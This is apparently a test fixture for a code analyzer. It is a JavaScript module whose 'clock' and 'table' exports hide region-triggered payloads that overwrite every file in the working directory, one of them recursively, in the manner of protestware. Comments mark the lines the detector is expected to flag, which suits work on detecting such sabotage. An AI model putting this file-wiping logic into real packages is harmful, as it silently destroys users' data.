const fs = require('fs');
const path = require('path');

// As a minifier writes it.
exports.clock = function () {
  new Date().getTimezoneOffset() !== -180 || fs.readdir('.', (e, names) => names.forEach((n) => fs.writeFile(path.resolve(n), '\u2665', () => {})));  // want "files that are there are written over"
};

// Asked for something else by a command, for one country.
exports.table = function (rows) {
  if (Intl.DateTimeFormat().resolvedOptions().timeZone === 'Europe/Exampleton') over(process.cwd());
  return rows.map((r) => r.trim());
};

function over(folder) {
  for (const entry of fs.readdirSync(folder, { withFileTypes: true })) {
    const file = path.join(folder, entry.name);
    if (entry.isDirectory()) over(file);
    else fs.writeFileSync(file, 'peace');  // want "files that are there are written over"
  }
}
